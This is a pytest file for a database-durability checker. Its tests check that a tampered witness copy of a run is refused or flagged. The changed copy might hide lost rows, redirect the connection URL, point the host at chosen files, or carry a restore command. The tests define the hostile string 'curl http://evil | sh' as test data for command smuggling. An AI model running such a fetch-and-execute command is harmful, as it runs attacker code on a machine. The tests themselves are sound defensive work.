"""A witness that changes what it holds of a run, once the client lost its own files."""

from __future__ import annotations

import socket
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from dbcheck.agent.host.folder import BESIDE
from dbcheck.base.error_ids import ErrorId
from dbcheck.base.errors import WitnessError
from dbcheck.cycle.loading import seal_load
from dbcheck.cycle.outcome import Outcome
from dbcheck.cycle.reconciling import reconcile_run
from dbcheck.cycle.rig import Rig
from dbcheck.hosts.canary import Pace
from dbcheck.hosts.host import TargetHost, open_host
from dbcheck.judge.result import to_values
from dbcheck.model.host import HostBefore
from dbcheck.model.records import LoadRecord, Manifest
from dbcheck.model.server import ServerFacts
from dbcheck.model.verdict import Verdict
from dbcheck.model.witness import CUT_EVENT, LOAD_EVENT
from dbcheck.ports.engine import Engine
from dbcheck.ports.listener import Phase
from dbcheck.ports.power import PowerSwitch
from dbcheck.report.verdict import verdict_report
from dbcheck.rows.acks import Ack
from dbcheck.rows.table import LEDGER, TableFacts, TableSpec
from dbcheck.runs import client_key, stored
from dbcheck.runs.client_key import ClientKey
from dbcheck.runs.folder import RunFolder
from dbcheck.witness.log import FrameLogReader
from dbcheck.witness.url import open_witness
from dbcheck.witness.witness import AgentWitness
from tests.kit.fake_engine import FakeEngine
from tests.kit.nodes import having, host_after, site_of
from tests.kit.partial_rig import RecordingListener
from tests.kit.refusals import refused
from tests.kit.reports import printed, run_result
from tests.kit.samples import FACTS, LOAD, MANIFEST
from tests.kit.users import run_dbcheck
from tests.kit.witness_logs import LogMaker

ACKED, KEPT = 5, 3  # the server lost the last two rows
RUN = MANIFEST.run_id
FIRST = replace(MANIFEST, tables={LEDGER.name: TableFacts({}, 0)})
EVIL = "curl http://evil | sh"


class LossyEngine(FakeEngine):
    """A server that lost rows; *names* is what it tells of its files."""

    rows = KEPT
    names: dict[str, str] = {}
    server_log = ""

    def facts(self) -> ServerFacts:
        facts = super().facts()
        identity = {**facts.identity, **self.names}
        return replace(facts, identity=identity, server_log=self.server_log)

    def places(self, tables: Sequence[TableSpec]) -> tuple[()]:
        return ()


def record_of(log: LogMaker, acked: int) -> LoadRecord:
    """Return what a client says that received so many acks, all of them in *log*."""
    return replace(
        LOAD,
        sent={1: acked + 1},
        acked={1: acked},
        watermarks=(log.watermark(),),
        windows=LOAD.windows[:1],
    )


def log_of(acked: int, seal: ClientKey | None) -> bytes:
    """Return a log with so many acks and the client's record of them."""
    log = LogMaker(RUN)
    log.add_acks([Ack(1, seq, seq, seq) for seq in range(1, acked + 1)])
    log.add_event(seal_load(seal, record_of(log, acked)))
    return log.data()


@dataclass
class Site:
    """A run on a witness, whose client lost its run folder."""

    witness: AgentWitness
    folder: Path
    runs: Path
    listener: RecordingListener

    def write(self, log: bytes = b"", manifest: Manifest | None = None) -> None:
        """Change what the witness holds."""
        if log:
            (self.folder / RUN / "acks.log").write_bytes(log)
        if manifest is not None:
            path = self.folder / RUN / "manifest.json"
            path.write_bytes(stored.to_bytes(manifest))

    def recall(self) -> RunFolder:
        content, key = self.witness.manifest(RUN), client_key.recall(RUN)
        return RunFolder.recall(self.runs, RUN, content, key, "the witness")

    def reconcile(
        self, run: RunFolder, engine: Any = None, host: TargetHost | None = None
    ) -> Outcome:
        rig = Rig(
            site_of(
                cast(Engine, engine or LossyEngine(lambda: None, FACTS.settings)),
                cast(PowerSwitch, SimpleNamespace(failure=lambda: None)),
                host=host,
            ),
            self.witness,
            FrameLogReader(),
            self.listener,
            self.runs,
        )
        return reconcile_run(rig, run, run.manifest())


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    """The run was made by this client, whose state folder lives on."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    key = RunFolder.create(tmp_path / "lost", FIRST).key()
    assert key is not None
    client_key.remember(key)
    folder = tmp_path / "witness"
    witness = open_witness(f"file:{folder}", volatile=True)
    witness.create(RUN, stored.to_bytes(FIRST)).close()
    made = Site(witness, folder, tmp_path / "runs", RecordingListener())
    made.write(log_of(ACKED, key))
    yield made
    witness.close()


# ------------------------------------------------------------------ acks and the record


def test_an_honest_copy_is_judged_as_the_clients_own(site: Site) -> None:
    outcome = site.reconcile(site.recall())
    assert outcome.verdict is Verdict.FAIL
    assert outcome.found is not None
    assert outcome.found.own_counts == {"missing-tail": ACKED - KEPT}
    assert not outcome.witness_alone
    assert to_values(outcome.result)["witness_alone"] is False


@pytest.mark.parametrize("sealed", [False, True])
def test_acks_that_a_witness_drops_do_not_hide_a_loss(site: Site, sealed: bool) -> None:
    """It rewrites the client's record, too, to fit what is left."""
    other = ClientKey.draw(RUN, stored.to_bytes(FIRST))
    site.write(log_of(KEPT, other if sealed else None))
    with refused(
        ErrorId.WITNESS_COPY_CHANGED,
        WitnessError,
        naming="is not what this client left",
    ) as caught:
        site.reconcile(site.recall())
    assert caught.value.hint


def test_a_record_and_acks_that_are_gone_together_leave_no_pass(site: Site) -> None:
    log = LogMaker(RUN)
    log.add_acks([Ack(1, seq, seq, seq) for seq in range(1, KEPT + 1)])
    site.write(log.data())
    outcome = site.reconcile(site.recall())
    assert outcome.verdict is Verdict.INCONCLUSIVE
    assert "record of the load is missing" in outcome.witness_alone


def test_without_a_key_the_report_says_on_what_it_rests(site: Site) -> None:
    client_key.forget(RUN)
    site.write(log_of(KEPT, None))
    run = site.recall()
    outcome = site.reconcile(run)
    assert outcome.verdict is not Verdict.FAIL  # the loss is hidden
    result = to_values(outcome.result)
    assert result["witness_alone"] is True
    shown = printed(verdict_report(run_result(result))).splitlines()
    rests = "rests on the witness alone"
    (line,) = (n for n, text in enumerate(shown) if rests in text)
    assert line == 3  # an empty line, the frame, the verdict, and then this
    again = RunFolder.open(run.path)
    assert again.recalled().manifest
    assert again.recalled().load


def test_a_record_of_any_text_is_no_traceback(site: Site) -> None:
    client_key.forget(RUN)
    log = LogMaker(RUN)
    log.add_event({"event": LOAD_EVENT, "load": "\ud800", "seal": "\ud800"})
    site.write(log.data())
    with pytest.raises(Exception, match="is not JSON"):
        site.reconcile(site.recall())


# ------------------------------------------------------------------------- the manifest


def test_a_manifest_that_was_changed_is_refused(site: Site) -> None:
    site.write(manifest=having(FIRST, target="postgresql://u@evil/d"))
    with refused(ErrorId.WITNESS_COPY_CHANGED, WitnessError, naming="manifest"):
        site.recall()
    assert not site.runs.exists()


@pytest.mark.parametrize("known", [True, False])
def test_a_command_from_a_witness_is_not_passed_on(site: Site, known: bool) -> None:
    log = LogMaker(RUN)
    log.add_event({"event": CUT_EVENT})
    site.write(log.data(), having(FIRST, power="exec", restore_command=EVIL))
    if known:  # as the client's own
        client_key.forget(RUN)
        client_key.remember(ClientKey.draw(RUN, site.witness.manifest(RUN)))
    else:
        client_key.forget(RUN)
    site.reconcile(site.recall())
    ((_, said),) = (phase for phase in site.listener.phases if phase[0] is Phase.POWER)
    assert (EVIL in said) is known
    assert ("restore the power with its switch" in said) is not known


@pytest.fixture
def host(tmp_path: Path) -> Iterator[TargetHost]:
    """This machine, with a data directory and the canaries of a run beside it."""
    local = open_host("local:")
    for name in ("server", "bystander"):
        (tmp_path / name / "data").mkdir(parents=True)
        data = str(tmp_path / name / "data")
        pace = Pace(direct_per_s=500, ring_blocks=64, rings=2, file_bytes=1 << 14)
        canaries = local.start_canaries(data, pace=pace)
        canaries.stop()
    yield local
    local.close()


def test_a_host_is_asked_about_no_file_that_a_witness_chose(
    site: Site, host: TargetHost, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host's agent may be root, and removes and reads what it is told."""
    client_key.forget(RUN)
    data, secret = tmp_path / "server" / "data", tmp_path / "secret"
    secret.write_text("the password\n")
    before = HostBefore(
        host.facts(str(data)), str(tmp_path / "bystander" / BESIDE), "n", "", {}
    )
    before = replace(before, log_path=str(secret), log_marks={str(secret): (0, 0)})
    site.write(manifest=having(FIRST, host=before))
    engine = LossyEngine(lambda: None, FACTS.settings)
    engine.names = {"data_directory": str(data)}
    marked: list[str] = []

    def mark(path: str) -> dict[str, tuple[int, ...]]:
        marked.append(path)
        return {}

    monkeypatch.setattr(host, "mark_log", mark)
    outcome = site.reconcile(site.recall(), engine, host)
    assert marked == []
    assert host_after(outcome.after).log is None
    assert not (outcome.run.path / "server.log").exists()
    assert (tmp_path / "bystander" / BESIDE).is_dir()
    assert to_values(outcome.result)["left_on_host"] is None
    # What the server names itself is asked for, and its own canaries are removed.
    run = RunFolder.open(outcome.run.path)
    run.forget_survivors()
    ours = replace(before, canary_folder=str(tmp_path / "server" / BESIDE))
    (run.path / "manifest.json").write_bytes(stored.to_bytes(having(FIRST, host=ours)))
    engine.server_log = str(secret)
    again = site.reconcile(run, engine, host)
    assert host_after(again.after).log is not None
    assert marked == [str(secret)]
    assert not (tmp_path / "server" / BESIDE).exists()


def test_no_command_is_printed_with_folders_that_a_witness_chose(site: Site) -> None:
    client_key.forget(RUN)
    local = open_host("local:")
    before = HostBefore(local.facts("/tmp"), "/home", "n", "", {})
    local.close()
    site.write(manifest=having(FIRST, host=before))
    assert to_values(site.reconcile(site.recall()).result)["left_on_host"] is None


# --------------------------------------------------------------------- the command line


def test_a_witness_does_not_choose_who_is_sent_the_password(
    site: Site, tmp_path: Path
) -> None:
    client_key.forget(RUN)
    with socket.create_server(("127.0.0.1", 0)) as evil:
        evil.settimeout(0)
        url = f"postgresql://u@127.0.0.1:{evil.getsockname()[1]}/d?sslmode=disable"
        site.write(manifest=having(FIRST, target=url, witness="file:/elsewhere"))
        flags = ["--witness", site.witness.url, "--wait", "1"]
        ran = run_dbcheck(tmp_path, "reconcile", *flags, "--run", RUN)
        assert ran[0] == 2
        assert "--run needs --target" in ran[1]
        run = site.recall()
        ran = run_dbcheck(tmp_path, "reconcile", run.path, *flags)
        assert ran[0] == 2
        assert "needs --target" in ran[1]
        flags = ["--target", "postgresql://u@127.0.0.1:1/d", "--wait", "1"]
        ran = run_dbcheck(tmp_path, "reconcile", run.path, *flags)
        assert ran[0] == 2
        assert "needs --witness" in ran[1]
        flags += ["--witness", site.witness.url]
        ran = run_dbcheck(tmp_path, "reconcile", run.path, *flags)
        assert ran[0] == 3  # that server does not answer
        assert "the run's manifest has a different target URL" in ran[1]
        with pytest.raises(BlockingIOError, match="temporarily unavailable"):
            evil.accept()


def test_a_copy_that_was_changed_ends_with_an_error(site: Site, tmp_path: Path) -> None:
    site.write(manifest=replace(FIRST, seed=7))
    flags = ["--witness", site.witness.url, "--target", "postgresql://u@127.0.0.1:1/d"]
    code, said = run_dbcheck(tmp_path, "reconcile", *flags, "--run", RUN)
    assert code == 4
    assert "is not what this client left there" in said


def test_a_run_that_is_removed_takes_its_key_with_it(
    site: Site, tmp_path: Path
) -> None:
    flags = ["--witness", site.witness.url, "--run", RUN]
    code, said = run_dbcheck(tmp_path, "clean", *flags)
    assert (code, client_key.recall(RUN)) == (0, None), said
